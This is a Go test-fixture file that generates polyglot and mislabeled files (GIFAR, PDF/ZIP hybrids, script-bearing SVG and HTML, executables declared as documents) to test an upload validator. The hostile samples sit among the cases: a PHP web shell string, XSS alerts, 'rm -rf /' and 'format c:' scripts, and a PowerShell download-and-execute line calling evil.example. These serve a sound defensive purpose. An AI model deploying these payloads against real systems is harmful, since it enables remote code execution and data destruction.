package hostile

import (
	"encoding/binary"
	"fmt"
	"strings"
)

// Polyglots are files that are, or pass for, two formats.
func Polyglots() []Case {
	t := &table{group: "polyglot"}
	t.withZIP()
	t.withPDF()
	t.images()
	t.pages()
	t.scripts()
	t.others()
	return t.cases
}

const (
	script  = "<script>alert(1)</script>"
	php     = "<?php system($_GET['c']); ?>"
	minimal = "%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)

// withZIP: an archive is found from its end, so anything can stand before it. What ends as an archive is one (F2).
func (t *table) withZIP() {
	const both = "it ends as a ZIP archive: whoever opens it as one gets other content"
	t.add(Damaged, "PDF with ZIP behind", pdf, both, func() []byte { return join(pdfFile(""), archive("a.txt", "a")) })
	t.add(Damaged, "PDF with a ZIP whose comment is the PDF's end", pdf, both, func() []byte {
		return join(pdfFile(""), archiveEnding("\nstartxref\n0\n%%EOF\n", "a.txt", "a"))
	})
	t.add(Damaged, "GIFAR", gif, both, func() []byte { return join(gifFile(1, 1), jar()) })
	t.add(Damaged, "PNG with JAR behind", png, both, func() []byte { return join(pngFile(1, 1), jar()) })
	t.add(Damaged, "PNG with a ZIP in a chunk, whose comment is the PNG's end", png, both, func() []byte {
		rest := len(pngFile(1, 1)) - len(pngSignature) - 25 + 4
		return pngFile(1, 1, chunk("zIPx", archiveEndingSpan(rest, "a.txt", "a")))
	})
	t.add(Damaged, "JPEG with JAR behind", jpeg, both, func() []byte { return join(jpegFile(1, 1), jar()) })
	t.add(Damaged, "JPEG with a ZIP in a comment", jpeg, both, func() []byte {
		rest := len(jpegFile(1, 1)) - 2 - 18
		return jpegFile(1, 1, segment(0xfe, archiveEndingSpan(rest, "a.txt", "a")))
	})
	t.add(Damaged, "TIFF with ZIP behind", tiff, both, func() []byte { return join(tiffFile(1, 1), archive("a.txt", "a")) })
	t.add(Damaged, "RTF with a ZIP whose comment closes the group", rtf, both, func() []byte {
		return join(`{\rtf1 `, archiveEnding("}", "a.txt", "a"))
	})
	t.add(Mismatch, "ZIP with a PDF inside, as PDF", pdf, "it begins as ZIP", func() []byte { return archive("a.pdf", minimal) })
	for _, kind := range []struct {
		name    string
		content func() []byte
	}{{"docx", docx}, {"odt", odt}, {"jar", jar}} {
		for _, f := range formats {
			t.add(Mismatch, kind.name+" as "+f.name, f.media, "an office document or program is a ZIP, whatever it is said to be", kind.content)
		}
	}
}

// archiveEndingSpan is an archive whose comment is said to be n bytes that the caller has stand behind it.
func archiveEndingSpan(n int, pairs ...string) []byte {
	b := archiveEnding(strings.Repeat("x", n), pairs...)
	return b[:len(b)-n]
}

// withPDF: readers look for the header in the first 1,024 bytes (ISO 32000-1 annex H.3 note 13), so what has it there is a PDF too.
func (t *table) withPDF() {
	junk := strings.Repeat("j", 100) + "\n"
	t.str(Mismatch, "PDF behind junk", pdf, "a PDF begins with its header", junk+minimal)
	t.str(Mismatch, "PDF behind junk, as text", plain, "readers open it as PDF", junk+minimal)
	t.str(Mismatch, "PDF behind 1,000 bytes, as text", plain, "readers open it as PDF", strings.Repeat("j", 1000)+minimal)
	t.str(Accept, "text that quotes a PDF at byte 1,100", plain, "no reader takes it for a PDF", strings.Repeat("tekst\n", 184)+minimal)
	t.str(Mismatch, "PDF behind a line break", pdf, "a PDF begins with its header", "\n"+minimal)
	t.str(Mismatch, "PDF behind a byte order mark", pdf, "a PDF begins with its header", "\xef\xbb\xbf"+minimal)
	t.str(Mismatch, "RTF with a PDF in its first 1,024 bytes", rtf, "readers open it as PDF too", `{\rtf1 `+minimal+"}")
	t.str(Accept, "RTF with a PDF as an object in hex", rtf, "RTF carries objects; it is one format", `{\rtf1{\object\objemb{\*\objdata 255044462d312e340a}}}`)
	t.add(Mismatch, "PNG with a PDF in a text chunk", png, "readers open it as PDF too", func() []byte { return pngFile(1, 1, chunk("tEXt", []byte("c\x00"+minimal))) })
	t.add(Mismatch, "JPEG with a PDF in a comment", jpeg, "readers open it as PDF too", func() []byte { return jpegFile(1, 1, segment(0xfe, []byte(minimal))) })
	t.add(Mismatch, "GIF with a PDF in a comment", gif, "readers open it as PDF too", func() []byte { return gifFile(1, 1, gifComment(minimal)) })
	t.add(Mismatch, "TIFF with a PDF before its directory", tiff, "readers open it as PDF too", func() []byte { return tiffOf(1, 1, []byte(minimal)) })
	t.str(Accept, "PDF with a page in a comment", pdf, "it is a PDF, and is served as one", "%PDF-1.4 %<html>"+script+"\n"+minimal[9:])
	t.str(NotAllowed, "PDF with a page in a comment, as HTML", "text/html", "HTML is none of the nine", "%PDF-1.4 %<html>"+script+"\n"+minimal[9:])
	t.str(Mismatch, "form data of a PDF", pdf, "FDF is not PDF", "%FDF-1.2\n1 0 obj<</FDF<<>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
}

// images that are scripts or pages as well.
func (t *table) images() {
	t.str(Damaged, "GIF that is only JavaScript", gif, "there are no blocks behind the header", "GIF89a=1;alert(1)")
	t.add(Damaged, "GIF with JavaScript behind", gif, "something stands after the end", func() []byte { return join(gifFile(0x2a2f, 1), "*/=1;alert(1)//") })
	t.add(Accept, "GIF with JavaScript in a comment", gif, "a sound GIF; nosniff keeps it one", func() []byte { return gifFile(0x2a2f, 1, gifComment("*/=1;alert(1);/*")) })
	t.add(Damaged, "GIF with a page behind", gif, "something stands after the end", func() []byte { return join(gifFile(1, 1), script) })
	t.add(Accept, "GIF with PHP in a comment", gif, "a sound GIF; nothing runs here", func() []byte { return gifFile(1, 1, gifComment(php)) })
	t.add(Damaged, "PNG with a page behind", png, "something stands after the end", func() []byte { return join(pngFile(1, 1), "<html>"+script) })
	t.add(Accept, "PNG with a page in a text chunk", png, "a sound PNG; nosniff keeps it one", func() []byte { return pngFile(1, 1, chunk("tEXt", []byte("c\x00<html>"+script))) })
	t.add(Damaged, "PNG with two headers", png, "readers differ on which holds", func() []byte {
		return pngFile(1, 1, pngFile(9, 9)[len(pngSignature):len(pngSignature)+25])
	})
	t.add(Damaged, "PNG with a chunk that has no name", png, "chunks are named by letters", func() []byte { return pngFile(1, 1, chunk("<ht>", []byte(script))) })
	t.add(Accept, "JPEG with PHP in a comment", jpeg, "a sound JPEG; nothing runs here", func() []byte { return jpegFile(1, 1, segment(0xfe, []byte(php))) })
	t.add(Accept, "JPEG with PHP behind", jpeg, "phones append videos and scanners see all of it; nothing runs here", func() []byte { return join(jpegFile(1, 1), php) })
	t.add(Accept, "JPEG with a page in a comment", jpeg, "a sound JPEG; nosniff keeps it one", func() []byte { return jpegFile(1, 1, segment(0xfe, []byte("<html>"+script))) })
	t.add(Accept, "JPEG that is JavaScript", jpeg, "a sound JPEG; nosniff keeps it one", func() []byte { return jpegFile(1, 1, segment(0xfe, make([]byte, 0x2f2a-2))) })
	t.add(Accept, "TIFF with a page behind", tiff, "TIFF may hold anything anywhere; it is served as TIFF", func() []byte { return join(tiffFile(1, 1), "<html>"+script) })
	t.add(Mismatch, "BigTIFF", tiff, "its version is 43; TIFF 6.0's is 42", func() []byte {
		return join("II+\x00\x08\x00\x00\x00\x10\x00\x00\x00\x00\x00\x00\x00", make([]byte, 64))
	})
}

// pages are what browsers run scripts of: none of the nine, however they are declared.
func (t *table) pages() {
	const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`
	t.str(Mismatch, "SVG as XML", xml, "SVG is no clinical XML: browsers run its scripts", svg)
	t.str(Mismatch, "SVG as text", plain, "SVG is not text", svg)
	t.str(NotAllowed, "SVG as SVG", "image/svg+xml", "SVG is none of the nine", svg)
	t.str(Mismatch, "SVG under a prefix", xml, "the namespace says what it is", `<?xml version="1.0"?><x:y xmlns:x="http://www.w3.org/2000/svg"/>`)
	t.str(Damaged, "SVG behind a DOCTYPE", xml, "document type declarations are not taken", `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/x.dtd">`+svg)
	t.add(Mismatch, "SVG in UTF-16", xml, "the encoding hides nothing", func() []byte { return wide(svg, binary.BigEndian, true) })
	for _, p := range []string{"<!DOCTYPE html><html>" + script + "</html>", "<html>" + script, "  \r\n<SCRIPT>alert(1)</SCRIPT>", "<!-- hei --><html>" + script, "\xef\xbb\xbf<html>" + script} {
		t.str(Mismatch, fmt.Sprintf("HTML as text: %.14q", p), plain, "HTML is not text", p)
	}
	t.add(Mismatch, "HTML in UTF-16 as text", plain, "the encoding hides nothing", func() []byte { return wide("<html>"+script, binary.LittleEndian, true) })
	t.str(Mismatch, "HTML as XML", xml, "HTML is no clinical XML", "<html><body>"+script+"</body></html>")
	t.str(Mismatch, "XHTML as XML", xml, "XHTML is no clinical XML", `<h:html xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></h:html>`)
	t.str(Mismatch, "XHTML as text", plain, "XHTML is not text", `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>`)
	t.str(Accept, "a FHIR narrative", xml, "XHTML inside a clinical document is what FHIR writes",
		`<Patient xmlns="http://hl7.org/fhir"><text><div xmlns="http://www.w3.org/1999/xhtml">Hei</div></text></Patient>`)
	mht := "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n" + script + "\r\n--x--\r\n"
	t.str(Accept, "MHTML as text", plain, "MHTML has no magic bytes: it is text, and is served as text", mht)
	t.str(NotAllowed, "MHTML as MHTML", "multipart/related", "none of the nine", mht)
	t.str(Accept, "text with a script tag in the middle", plain, "it does not begin as HTML; nosniff keeps it text", "Se "+script+"\n")
}

func (t *table) scripts() {
	t.str(Mismatch, "shell script", plain, "programs are not text", "#!/bin/sh\nrm -rf /\n")
	t.str(Mismatch, "node script", plain, "programs are not text", "#!/usr/bin/env node\nprocess.exit()\n")
	t.str(Mismatch, "PHP", plain, "programs are not text", php)
	t.str(Mismatch, "PostScript", plain, "programs are not text", "%!PS-Adobe-3.0\nshowpage\n")
	t.str(Accept, "batch file", plain, "it has no magic bytes: it is text, and is served as text", "@echo off\r\nformat c:\r\n")
	t.str(Accept, "PowerShell", plain, "it has no magic bytes: it is text, and is served as text", "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://evil.example')\n")
	t.add(Mismatch, "Windows program as PDF", pdf, "it begins as a program", func() []byte { return join("MZ\x90\x00\x03\x00\x00\x00", make([]byte, 56), "PE\x00\x00") })
	t.add(Mismatch, "Linux program as TIFF", tiff, "it begins as a program", func() []byte { return join("\x7fELF\x02\x01\x01", make([]byte, 57)) })
	t.add(Mismatch, "Java class as RTF", rtf, "it begins as a program", func() []byte { return join("\xca\xfe\xba\xbe\x00\x00\x00\x34", make([]byte, 40)) })
}

func (t *table) others() {
	t.str(Mismatch, "RTF with half a header", rtf, "Word opens it, and no specification knows it", `{\rt hei}`)
	t.str(Mismatch, "RTF with half a header, as text", plain, "Word opens it as RTF", `{\rt hei}`)
	t.str(Mismatch, "RTF without version, as text", plain, "Word opens it as RTF", `{\rtf hei}`)
	t.str(Accept, "RTF with a page inside", rtf, "it is RTF, and is served as RTF", `{\rtf1 <html>`+script+"}")
	t.str(Damaged, "JSON with a page behind", json, "something stands after the end", `{}<html>`+script)
	t.str(Accept, "JSON with a page in a string", json, "it is JSON", `{"a":"<html>`+script+`"}`)
	t.add(Mismatch, "WebP as JPEG", jpeg, "none of the nine", func() []byte { return join("RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00\x2f", make([]byte, 12)) })
	t.add(Mismatch, "BMP as text", plain, "none of the nine", func() []byte {
		return join("BM\x3a\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00\x28\x00\x00\x00", make([]byte, 40))
	})
	t.add(Mismatch, "DICOM as TIFF", tiff, "none of the nine", func() []byte { return join(make([]byte, 128), "DICM", make([]byte, 40)) })
	t.add(Mismatch, "7z as PDF", pdf, "none of the nine", func() []byte { return join("7z\xbc\xaf\x27\x1c\x00\x04", make([]byte, 40)) })
	t.add(Mismatch, "tar of a note as text", plain, "none of the nine", func() []byte { return tarFile("notat.txt", note) })
}

// tarFile is a ustar archive of one file.
func tarFile(name, content string) []byte {
	h := make([]byte, 512)
	copy(h, name)
	copy(h[100:], "0000644\x000000000\x000000000\x00")
	copy(h[124:], "00000000100\x0000000000000\x00        0")
	copy(h[257:], "ustar\x0000")
	sum := 0
	for _, c := range h {
		sum += int(c)
	}
	copy(h[148:], octal(sum)+"\x00 ")
	return join(h, content, make([]byte, 512-len(content)%512+1024))
}

func octal(n int) string {
	digits := []byte("000000")
	for i := len(digits) - 1; i >= 0; i, n = i-1, n>>3 {
		digits[i] = byte('0' + n&7)
	}
	return string(digits)
}
